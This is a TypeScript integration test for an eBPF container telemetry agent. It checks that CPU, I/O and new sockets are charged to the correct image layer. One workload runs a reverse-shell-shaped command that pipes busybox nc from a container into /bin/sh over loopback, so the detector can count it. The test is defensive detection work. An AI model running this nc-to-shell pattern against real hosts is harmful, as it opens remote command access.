/**
 * layer-window-v2 on a real engine with real bpftrace, under the 2-second windows of issue 12:
 * a container of processes that each live a few milliseconds has its cgroup CPU charged to layers
 * at exit (cpu_attributed_share >= 0.9); a job run by the entrypoint shell has its I/O on the job's
 * own layer, not the shell's; a loopback TCP connection opened from a container (a reverse shell's
 * shape) and a new listening socket are counted on the layer of the process holding them.
 */
import assert from "node:assert/strict";
import { createServer, type Server, type Socket } from "node:net";
import { after, before, describe, it } from "node:test";
import type Docker from "dockerode";
import { startAgent, type RunningAgent } from "../../agent/agent.js";
import { ebpfUnavailableReason } from "../../agent/telemetry/exec-ebpf.js";
import { silentLogger } from "../../common/log.js";
import { decodeFeatures, namedFeatures } from "../../models/features.js";
import type { WindowSummary } from "../../proto/gen/shadowlayer/v1/telemetry_pb.js";
import { cleanupContainers, execFileP, runContainer, testEngine, waitFor, type TestEngine } from "../harness/engine.js";

const named = (l: { featuresF64le: Uint8Array } | undefined): Record<string, number> => namedFeatures(l === undefined ? [] : decodeFeatures(l.featuresF64le));

async function imageLayers(image: string): Promise<string[]> {
  const { stdout } = await execFileP("docker", ["image", "inspect", "--format", "{{json .RootFS.Layers}}", image]);
  return JSON.parse(stdout) as string[];
}

describe("layer-window-v2 inputs (real containers, eBPF)", () => {
  let eng: TestEngine;
  let agent: RunningAgent;
  let base = "";
  let middle = "";
  const windows: WindowSummary[] = [];
  // The three workloads run side by side (each test reads its own container's windows).
  let loop: Docker.Container;
  let job: Docker.Container;
  let sockets: Docker.Container;
  const accepted: Socket[] = [];
  let server: Server;
  let listenPort = 0;
  let started = 0;

  before(async () => {
    const why = ebpfUnavailableReason();
    if (why !== undefined) assert.fail(`eBPF is not usable on this test host (${why})`);
    eng = await testEngine();
    const layers = await imageLayers(eng.app);
    base = layers[0] ?? "";
    // /opt/app/bin/busybox, a copy of the base's /bin/busybox.
    middle = layers[2] ?? "";
    agent = await startAgent({ node: "lifecycle-node", sampleMs: 1000, windowMs: 2000, refreshMs: 1000, execSource: "ebpf", log: silentLogger() });
    agent.telemetry.on("window", (w) => windows.push(w));
    server = createServer((sock) => accepted.push(sock));
    await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
    const port = (server.address() as { port: number }).port;
    const probe = createServer();
    await new Promise<void>((done) => probe.listen(0, "127.0.0.1", done));
    listenPort = (probe.address() as { port: number }).port;
    await new Promise<void>((done) => probe.close(() => done()));
    started = Date.now();
    [loop, job, sockets] = await Promise.all([
      // Each inner shell counts to 3,000 and exits (about 10 ms); the loop forks the next at once.
      runContainer(eng.docker, eng.app, ["/opt/app/bin/busybox", "sh", "-c", 'while :; do /bin/sh -c "i=0; while [ \\$i -lt 3000 ]; do i=\\$((i+1)); done"; done']),
      // Every second the shell (base layer) runs dd from the middle layer: 8 MiB read and written.
      runContainer(eng.docker, eng.app, ["/bin/sh", "-c", "while :; do /opt/app/bin/busybox dd if=/dev/zero of=/dev/null bs=1M count=8 2>/dev/null; sleep 1; done"]),
      // After the agent's first look (a baseline: sockets already open there are not new), a
      // shell's stdin and stdout on a TCP connection to a listener on loopback (a reverse shell's
      // shape), and a web server's new listening socket. (As the container's command, not
      // `docker exec`, whose attach streams would hold this process open.)
      runContainer(eng.docker, eng.app, [
        "/bin/sh",
        "-c",
        `sleep 4; /opt/app/bin/busybox httpd -p 127.0.0.1:${listenPort} -h /srv/www; /bin/sleep 600 | /opt/app/bin/busybox nc 127.0.0.1 ${port} | /bin/sh`,
      ]),
    ]);
  });
  after(async () => {
    await agent?.stop();
    for (const sock of accepted) sock.destroy();
    await new Promise<void>((done) => (server === undefined ? done() : server.close(() => done())));
    await cleanupContainers(eng.docker);
  });

  async function running(c: Docker.Container): Promise<void> {
    await waitFor("container in the graph", () => agent.collector.container(c.id)?.pid ?? undefined);
  }

  /** `count` windows of the container that began after `since` (ms) with a whole window behind them. */
  async function windowsOf(c: Docker.Container, since: number, count: number): Promise<WindowSummary[]> {
    const pick = () => windows.filter((w) => w.containerId === c.id && Number(w.start?.seconds ?? 0n) * 1000 >= since && w.ticks >= 2);
    return waitFor(`${count} windows of ${c.id.slice(0, 12)}`, () => (pick().length >= count ? pick().slice(0, count) : undefined), 6000 + count * 2500, 100);
  }

  it("processes living a few ms each: >= 90% of the cgroup's CPU reaches a layer, charged at exit", async (t) => {
    const c = loop;
    await running(c);
    const ws = await windowsOf(c, started + 3000, 3);
    const shares = ws.map((w) => w.cpuAttributedShare?.value ?? Number.NaN);
    // Before the cap at 1, for the record: charges at a window's edge land in the next window.
    const uncapped = ws.map((w) => w.layers.reduce((n, l) => n + (named(l)["cpu_seconds.sum"] ?? 0), 0) / (w.cgroup?.cpuSeconds?.value ?? Number.NaN));
    t.diagnostic(
      `cpu_attributed_share per window: ${shares.map((s) => s.toFixed(3)).join(", ")} (uncapped ${uncapped.map((s) => s.toFixed(3)).join(", ")}); ` +
        `exits charged: ${ws.map((w) => w.exitsCharged).join(", ")}`,
    );
    for (const w of ws) {
      assert.equal(w.cpuAttributedShare?.available, true, w.cpuAttributedShare?.reason);
      assert.ok(w.exitsCharged >= 5, `only ${w.exitsCharged} exits charged in a 2 s window`);
      // The inner shells run /bin/sh from the base layer; the loop is the middle layer's busybox.
      const shells = named(w.layers.find((l) => l.layerId === base));
      assert.ok((shells["cpu_seconds.sum"] ?? 0) > 0.05, `the short-lived shells' CPU is on the base layer (${shells["cpu_seconds.sum"]} s)`);
      assert.ok((shells["process_starts"] ?? 0) >= 5);
    }
    const sorted = [...shares].sort((a, b) => a - b);
    assert.ok((sorted[1] ?? 0) >= 0.9, `median share ${sorted[1]} (${shares.join(", ")})`);
  });

  it("a job run by the entrypoint shell has its I/O on its own layer, and the shell's layer none of it", async () => {
    const c = job;
    await running(c);
    const ws = await windowsOf(c, started + 3000, 3);
    let jobRead = 0;
    for (const w of ws) {
      const mid = named(w.layers.find((l) => l.layerId === middle));
      const shell = named(w.layers.find((l) => l.layerId === base));
      jobRead += mid["read_bytes.sum"] ?? 0;
      assert.ok((shell["read_bytes.sum"] ?? 0) < 1 << 20, `the shell's layer read ${shell["read_bytes.sum"]} B`);
      assert.ok((shell["write_bytes.sum"] ?? 0) < 1 << 20, `the shell's layer wrote ${shell["write_bytes.sum"]} B`);
    }
    // About one dd per second over 6 s: each 8 MiB once, never twice.
    const runs = jobRead / (8 << 20);
    assert.ok(runs >= 3 && runs <= 7.05, `the job's layer read ${jobRead} B (${runs.toFixed(2)} runs of dd in 6 s)`);
    assert.ok(Math.abs(runs - Math.round(runs)) < 0.05, `${runs.toFixed(3)} runs: each dd's 8 MiB counted once`);
  });

  it("a loopback TCP connection opened from the container and a new listening socket are counted on their layer", async () => {
    const c = sockets;
    const t0 = started;
    await running(c);
    await waitFor("the connection accepted", () => accepted.length > 0 || undefined, 10_000);
    const seen = { connections: 0, listening: 0 };
    await waitFor(
      "the connection and the listening socket counted",
      () => {
        seen.connections = 0;
        seen.listening = 0;
        for (const w of windows.filter((x) => x.containerId === c.id && Number(x.end?.seconds ?? 0n) * 1000 >= t0)) {
          const mid = named(w.layers.find((l) => l.layerId === middle));
          seen.connections += mid["new_connections"] ?? 0;
          seen.listening += mid["listen_sockets"] ?? 0;
        }
        return seen.connections >= 1 && seen.listening >= 1 ? true : undefined;
      },
      8000,
      100,
    );
    assert.equal(seen.connections, 1, "one connection opened, counted once");
    assert.equal(seen.listening, 1, "one listening socket, counted once");
  });
});
